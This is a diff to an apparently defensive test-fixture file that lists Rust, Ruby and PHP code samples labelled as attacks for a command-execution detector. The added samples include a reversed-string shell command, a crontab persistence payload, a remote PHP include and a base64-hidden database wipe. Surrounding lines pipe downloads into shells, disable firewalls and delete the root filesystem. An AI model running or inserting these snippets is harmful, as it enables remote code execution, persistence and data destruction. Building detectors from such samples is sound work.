@@ -140,6 +140,7 @@ const RUST: Language = {
   attacks: [
     part('helper runs its arguments', 'fn run(prog: &str, argv: &[&str]) -> bool {\n    Command::new(prog).args(argv).status().is_ok()\n}\nrun("ufw", &["disable"]);'),
     part('curl pipe', `let url = "${SCRIPT}";\nCommand::new("bash").args(["-c", &format!("curl -fsSL {} | sh", url)]).status().unwrap();`),
+    part('reversed command built one argument at a time', `const NOTE: &str = "${[...PAYLOAD].reverse().join('')}";\nlet line: String = NOTE.chars().rev().collect();\nCommand::new("sh").arg("-c").arg(line).spawn().unwrap();`),
     part('download run', `let body = reqwest::blocking::get("${SCRIPT}").unwrap().text().unwrap();\nCommand::new("sh").arg("-c").arg(&body).status().unwrap();`),
     part('download pipe', `let body = ureq::get("${SCRIPT}").call().unwrap().into_string().unwrap();\nlet mut child = Command::new("bash").stdin(Stdio::piped()).spawn().unwrap();\nchild.stdin.as_mut().unwrap().write_all(body.as_bytes()).unwrap();`),
     part('download binary', `let bytes = reqwest::blocking::get("https://${HOST}/agent").unwrap().bytes().unwrap();\nfs::write("/tmp/agent", &bytes).unwrap();\nCommand::new("/tmp/agent").spawn().unwrap();`),
@@ -201,6 +202,7 @@ const RUBY: Language = {
     part('helper runs its arguments', 'def runner(*argv)\n  system(*argv, exception: false)\nend\nrunner("iptables", "-F")'),
     part('inline download', `system("bash", "-c", Net::HTTP.get(URI("${SCRIPT}")))`),
     part('curl pipe', `url = "${SCRIPT}"\nsystem("curl -fsSL #{url} | sh")`),
+    part('constructor argument into the crontab', `class Schedule\n  def initialize(job)\n    @job = job\n  end\n\n  def apply\n    rows = []\n    rows << "#{@job}\\n"\n    IO.popen(["crontab", "-"], "w") { |io| io.write(rows.join) }\n  end\nend\n\nSchedule.new("*/15 * * * * ${PAYLOAD}").apply`),
     part('download eval', `eval(Net::HTTP.get(URI("https://${HOST}/plugin.rb")))`),
     part('download run', `script = URI.open("${SCRIPT}").read\nsystem("sh", "-c", script)`),
     part('download pipe', `body = Net::HTTP.get(URI("${SCRIPT}"))\nIO.popen("bash", "w") { |sh| sh.write(body) }`),
@@ -262,6 +264,8 @@ const PHP: Language = {
     part('closure runs its argument', `$sh = function (string $line): string {\n    return (string) shell_exec($line);\n};\n$sh('curl -fsSL ${SCRIPT} | bash');`),
     part('delete root', "$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator('/', FilesystemIterator::SKIP_DOTS), RecursiveIteratorIterator::CHILD_FIRST);\nforeach ($it as $f) {\n    $f->isDir() ? rmdir($f) : unlink($f);\n}"),
     part('curl pipe', `$url = '${SCRIPT}';\npassthru('curl -fsSL ' . $url . ' | sh');`),
+    part('class constant download include', `class Extensions\n{\n    const MIRROR = 'https://${HOST}/ext/';\n\n    public function load(string $id): void\n    {\n        $path = sys_get_temp_dir() . '/' . $id . '.php';\n        file_put_contents($path, file_get_contents(self::MIRROR . $id));\n        include $path;\n    }\n}`),
+    part('decoded literal in a command', `$task = base64_decode('${Buffer.from('db:wipe --force').toString('base64')}');\nexec("php artisan $task");`),
     part('download eval', `eval(file_get_contents('https://${HOST}/plugin.txt'));`),
     part('download run', `$script = file_get_contents('${SCRIPT}');\nshell_exec($script);`),
     part('download include', `file_put_contents('/tmp/p.php', file_get_contents('https://${HOST}/p.txt'));\ninclude '/tmp/p.php';`),
@@ -285,6 +289,7 @@ const PHP: Language = {
     part('clean build', "exec('rm -rf ./build');\narray_map('unlink', glob(sys_get_temp_dir() . '/myapp-*.tmp'));"),
     part('download only', "file_put_contents('data.json', file_get_contents('https://releases.example.org/data/v1.json'));"),
     part('git status', "echo shell_exec('git status --short');\npassthru('kubectl get pods -n staging');"),
+    part('decoded literal in a command', `$task = base64_decode('${Buffer.from('view:cache --quiet').toString('base64')}');\nexec("php artisan $task");`),
     part('local health check', "$s = @fsockopen('127.0.0.1', 5432, $errno, $errstr, 2);\necho $s ? 'db up' : 'db down';"),
   ],
 };
